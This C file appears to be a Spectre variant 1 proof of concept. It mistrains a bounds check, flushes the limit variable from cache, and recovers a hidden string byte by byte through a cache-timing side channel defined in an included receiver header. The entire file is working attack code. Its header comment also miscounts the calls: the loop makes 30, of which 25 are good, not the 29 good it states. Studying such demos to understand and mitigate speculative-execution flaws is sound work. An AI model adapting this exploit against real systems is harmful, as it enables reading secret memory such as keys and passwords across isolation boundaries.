/* A bounds check whose limit was flushed; every try is 29 good calls and 5 bad ones, with a volatile delay. */
#define STRIDE 512
#include "receiver.h"

static unsigned limit = 16;
static uint8_t gap[64], table[64] = "0123456789abcdef";
static const char hidden[] = "v1!";
static volatile uint8_t sink;

__attribute__((noinline)) static void victim(size_t index) {
    if (index < limit) sink &= *line(table[index]);
}

int main(void) {
    calibrate(2000);
    for (size_t at = 0; at < sizeof hidden - 1; at++) {
        size_t bad = (size_t)(hidden + at - (const char *)table);
        start();
        int found = NOTHING;
        for (int round = 0; round < 12 && found == NOTHING; round++) {
            size_t good = (size_t)round % limit;
            forget();
            for (int call = 29; call >= 0; call--) {
                _mm_clflush(&limit);
                for (volatile int pause = 0; pause < 100; pause++) {}
                size_t last = (size_t)-(call % 6 == 0);
                victim(good ^ (last & (good ^ bad)));
            }
            look(table[good]);
            found = best(2);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
